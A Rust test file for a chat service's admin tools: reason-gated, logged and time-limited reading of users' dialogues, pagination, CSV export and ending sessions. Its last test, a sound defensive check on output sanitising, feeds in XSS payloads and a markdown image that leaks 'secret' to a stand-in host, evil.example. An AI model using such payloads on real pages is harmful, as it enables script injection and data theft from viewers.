//! Dialogues: listed for everybody, read by those who may, with a reason and for a while.

use rstest::rstest;
use testkit::{
    app::{Database, TestApp},
    model::Behaviour,
};
use uuid::Uuid;

use crate::support::{Browser, log, run, staff, start};

async fn minutes_pass(app: &TestApp, minutes: i64) {
    let set = match app.database() {
        Database::Sqlite => format!("expires_at - {}", minutes * 60_000_000),
        Database::Postgres => format!("expires_at - interval '{minutes} minutes'"),
    };
    app.execute(&format!("UPDATE openings SET expires_at = {set}")).await.unwrap();
}

/// What stands behind each turn's number on a page.
fn numbers(html: &str) -> Vec<u32> {
    html.split("aria-label=\"№ ").skip(1).map(|rest| rest.split('"').next().unwrap().parse().unwrap()).collect()
}

fn link(html: &str, rel: &str) -> Option<String> {
    let (_, rest) = html.split_once(&format!("rel=\"{rel}\" href=\""))?;
    Some(rest.split('"').next()?.replace("&#38;", "&").replace("&amp;", "&"))
}

#[rstest]
#[tokio::test]
async fn reading_takes_a_role_a_reason_and_ends(#[values(Database::Sqlite, Database::Postgres)] database: Database) {
    let (model, app) = start(database).await;
    let (anton_id, anton) = staff(&app, "admin", "Антон").await;
    let (_, maria) = staff(&app, "moderator", "Мария").await;
    let anna = app.register("Анна").await;
    let session = anna.session().await;
    model.next(Behaviour::answer("**Ответ** для неё"));
    anna.send(session, "Тайна Анны").await;
    let list = format!("/admin/people/{}/sessions", anna.id);
    let path = format!("{list}/{session}");

    anton.get(&list).await.is(200).says("Тайна Анны");
    let shown = maria.get(&list).await.is(200);
    assert!(shown.html.contains(&path) && !shown.html.contains("Тайна"), "{}", shown.html);
    for browser in [&anton, &maria] {
        let shown = browser.get(&path).await.is(200);
        assert!(!shown.html.contains("Тайна") && !shown.html.contains("Ответ"), "{}", shown.html);
    }
    let read = format!("{path}/read");
    maria.post(&read, &[("reason", "любопытно")]).await.is(403);
    anton.post(&read, &[("reason", " ")]).await.is(422);
    anton.get(&path).await.is(200).says("Say why you read it");
    assert_eq!(anton.post(&read, &[("reason", "жалоба №5")]).await.is(303).location(), path);
    assert_eq!(log(&app, 1).await, ["Антон: dialogue-opened (жалоба №5)"]);
    let target = "SELECT target FROM audit_log WHERE action = 'dialogue-opened'";
    assert_eq!(app.query_text(target).await.unwrap(), session.to_string());
    let shown = anton.get(&path).await.is(200).says("Тайна Анны").says("<strong>Ответ</strong> для неё");
    let attempt: Vec<(Uuid,)> = app.sql("SELECT id FROM ai_requests").await.unwrap();
    shown.says("answered").says("tokens").says(&format!("/admin/journal/{}", attempt[0].0));
    // Others, and the same person elsewhere, have not given the reason.
    assert!(!maria.get(&path).await.is(200).html.contains("Тайна"));
    let other = Browser::signed_in(&app, &run(&app, &["admin", "link", "--user", &anton_id.to_string()]).await).await;
    assert!(!other.get(&path).await.is(200).html.contains("Тайна"));
    minutes_pass(&app, 31).await;
    assert!(!anton.get(&path).await.is(200).html.contains("Тайна"));
    // It is that person's dialogue and no other's.
    let boris = app.register("Борис").await;
    let wrong = format!("/admin/people/{}/sessions/{session}", boris.id);
    anton.get(&wrong).await.is(404);
    anton.post(&format!("{wrong}/read"), &[("reason", "жалоба")]).await.is(404);
    anton.post(&format!("{wrong}/end"), &[("reason", "жалоба")]).await.is(404);
}

#[rstest]
#[tokio::test]
async fn outcomes_are_shown_page_by_page(#[values(Database::Sqlite, Database::Postgres)] database: Database) {
    let (model, app) = start(database).await;
    let (_, anton) = staff(&app, "admin", "Антон").await;
    let anna = app.register("Анна").await;
    app.execute("UPDATE subscriptions SET usage_limit = 1000").await.unwrap();
    let session = anna.session().await;
    let path = format!("/admin/people/{}/sessions/{session}", anna.id);
    model.next(Behaviour::error(400, "no"));
    anna.send(session, "Без ответа").await;
    for number in 2..=60 {
        anna.send(session, &format!("Вопрос {number}")).await;
    }
    anton.post(&format!("{path}/read"), &[("reason", "жалоба")]).await.is(303);
    let newest = anton.get(&path).await.is(200);
    assert_eq!(numbers(&newest.html), (11..=60).collect::<Vec<_>>(), "what came first stands first");
    let older = anton.get(&link(&newest.html, "next").unwrap()).await.is(200);
    assert_eq!(numbers(&older.html), (1..=10).collect::<Vec<_>>());
    assert!(older.html.contains("no answer") && older.html.contains("<code>model-failed</code>"), "{}", older.html);
    let back = anton.get(&link(&older.html, "prev").unwrap()).await.is(200);
    assert_eq!(numbers(&back.html), (11..=60).collect::<Vec<_>>());
}

#[rstest]
#[tokio::test]
async fn dialogues_are_listed_page_by_page(#[values(Database::Sqlite, Database::Postgres)] database: Database) {
    let (_model, app) = start(database).await;
    let (_, maria) = staff(&app, "moderator", "Мария").await;
    let anna = app.register("Анна").await;
    let mut sessions = Vec::new();
    for _ in 0..70 {
        sessions.push(anna.session().await);
    }
    sessions.reverse();
    let listed = |html: &str| -> Vec<Uuid> {
        html.split("/sessions/").skip(1).filter_map(|rest| rest.get(..36)?.parse().ok()).collect()
    };
    let first = maria.get(&format!("/admin/people/{}/sessions", anna.id)).await.is(200);
    assert_eq!(listed(&first.html), sessions[..50]);
    let second = maria.get(&link(&first.html, "next").unwrap()).await.is(200);
    assert_eq!(listed(&second.html), sessions[50..]);
    let back = maria.get(&link(&second.html, "prev").unwrap()).await.is(200);
    assert_eq!(listed(&back.html), sessions[..50]);
    // The file has them all, and nothing of what was said.
    anna.send(sessions[0], "Тайна Анны").await;
    let file = maria.get(&format!("/admin/people/{}/sessions/csv", anna.id)).await.is(200).html;
    assert!(file.lines().count() == 71 && !file.contains("Тайна"), "{file}");
    assert!(sessions.iter().all(|session| file.contains(&format!("\"{session}\",\"api\""))), "{file}");
    maria.get(&format!("/admin/people/{}/sessions/csv", Uuid::nil())).await.is(404);
}

#[rstest]
#[tokio::test]
async fn a_dialogue_is_ended(#[values(Database::Sqlite, Database::Postgres)] database: Database) {
    let (_model, app) = start(database).await;
    let (_, maria) = staff(&app, "moderator", "Мария").await;
    let anna = app.register("Анна").await;
    let session = anna.session().await;
    let path = format!("/admin/people/{}/sessions/{session}", anna.id);
    maria.post(&format!("{path}/end"), &[("reason", "оскорбления")]).await.is(303);
    maria.get(&path).await.is(200).says("The dialogue has ended.");
    assert_eq!(log(&app, 1).await, ["Мария: dialogue-ended (оскорбления)"]);
    let (status, _, body) = anna.send(session, "Ещё").await;
    assert_eq!((status.as_u16(), body["type"].as_str()), (409, Some("session-ended")));
    // Again changes nothing, and is not recorded again.
    maria.post(&format!("{path}/end"), &[("reason", "ещё раз")]).await.is(303);
    assert_eq!(log(&app, 1).await, ["Мария: dialogue-ended (оскорбления)"]);
}

#[rstest]
#[tokio::test]
async fn what_models_write_is_only_shown(#[values(Database::Sqlite, Database::Postgres)] database: Database) {
    let (model, app) = start(database).await;
    let (_, anton) = staff(&app, "admin", "Антон").await;
    let anna = app.register("Анна").await;
    let session = anna.session().await;
    let path = format!("/admin/people/{}/sessions/{session}", anna.id);
    for hostile in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x]: data:text/html,<script>alert(1)</script>\n\n[x]",
        "</section><svg/onload=alert(1)>",
    ] {
        model.next(Behaviour::answer(hostile));
        anna.send(session, hostile).await;
    }
    anton.post(&format!("{path}/read"), &[("reason", "жалоба")]).await.is(303);
    let html = anton.get(&path).await.is(200).without_own_script();
    for raw in ["<script", "<img", "<svg", "href=\"javascript", "href=\"data", " src=\""] {
        assert!(!html.contains(raw), "{raw}: {html}");
    }
    assert!(html.contains("https://evil.example/?q=secret"), "where it leads is shown");
}
